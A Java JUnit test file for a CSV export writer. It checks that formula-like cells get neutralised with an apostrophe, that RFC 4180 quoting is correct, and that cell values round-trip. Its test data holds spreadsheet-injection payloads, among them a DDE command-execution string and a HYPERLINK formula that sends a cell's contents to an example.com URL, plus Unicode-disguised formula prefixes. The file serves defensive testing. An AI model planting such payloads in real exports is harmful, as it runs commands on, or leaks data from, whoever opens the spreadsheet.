package com.remitflex.platform.text;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** One line of an export, by RFC 4180, and harmless to a spreadsheet. */
class CsvTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        " =1+1",
        " @SUM(1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "﹢1",
        "﹣1",
        "﹫SUM(1)",
        "\u00a0=1",
        "\u202f=1",
        "\u3000=1",
        "\u2009＝1",
        "\u200b=1",
        "\u200d=1",
        "\ufeff=1",
        "\u00ad=1",
        "\u2060=1",
        "\u202e=1",
        "\u3164=1",
        "\u115f=1",
        "\ufe0f=1",
        "\udb40\udc20=1",
        "\u2028=1",
        "\u0085=1",
        "\u0000=1",
        "\t=1",
        "\r=1",
        "\n=1",
        "\r\n \u00a0\u200b =1",
        "\tx",
        "\rx",
        "\nx",
        "-cmd|'/C calc'!A0",
        "=HYPERLINK(\"https://example.com?\"&A1,\"x\")"
      })
  void aTextThatLooksLikeAFormulaGetsAnApostrophe(String text) {
    assertThat(Csv.text(text).value()).isEqualTo("'" + text);
    assertThat(parsed(Csv.line(List.of(Csv.text(text))))).containsExactly("'" + text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        " ",
        "\u00a0",
        "\u200b",
        "INV-1",
        "a=b",
        "1-2",
        "me@example.com",
        "\u00a0x",
        "'=1",
        "Zürich",
        "日本",
        "2026-01-01T00:00:00.000Z",
        "{{7*7}}",
        "😀"
      })
  void everyOtherTextStaysAsItIs(String text) {
    assertThat(Csv.text(text).value()).isEqualTo(text);
    assertThat(parsed(Csv.line(List.of(Csv.text(text))))).containsExactly(text);
  }

  @Test
  void aNumberOfOursStaysANumber() {
    assertThat(
            Csv.line(
                List.of(
                    Csv.number(-5),
                    Csv.number(new BigDecimal("-0.50")),
                    Csv.number(new BigDecimal("1E+3")))))
        .isEqualTo("-5,-0.50,1000\r\n");
  }

  @Test
  void aCellIsQuotedWhereItMustBe() {
    assertThat(
            Csv.line(
                List.of(
                    Csv.text("plain text/1.0 (x)"),
                    Csv.text(""),
                    Csv.text("a,b"),
                    Csv.text("a\"b"),
                    Csv.text("a\r\nb"),
                    Csv.text("a;b"),
                    Csv.text(" a "))))
        .isEqualTo("plain text/1.0 (x),,\"a,b\",\"a\"\"b\",\"a\r\nb\",\"a;b\",\" a \"\r\n");
  }

  @Test
  void whateverStandsInCellsIsReadBackAsItWasWritten() {
    List<String> texts =
        List.of("a,\"b\"\r\n", "\"", "\"\"", ",", "\n", "", "\u0000", "x\ty", "'", ";", "\u2028");

    String line = Csv.line(texts.stream().map(Csv.Cell::new).toList());

    assertThat(parsed(line)).isEqualTo(texts);
  }

  /** A reader of RFC 4180, written apart from the writer. */
  static List<String> parsed(String line) {
    assertThat(line).endsWith("\r\n");
    List<String> cells = new java.util.ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    String text = line.substring(0, line.length() - 2);
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      boolean doubled = i + 1 < text.length() && text.charAt(i + 1) == '"';
      if (quoted && c == '"' && doubled) {
        cell.append('"');
        i++;
      } else if (c == '"') {
        quoted = !quoted;
      } else if (c == ',' && !quoted) {
        cells.add(cell.toString());
        cell.setLength(0);
      } else {
        cell.append(c);
      }
    }
    assertThat(quoted).isFalse();
    cells.add(cell.toString());
    return cells;
  }
}
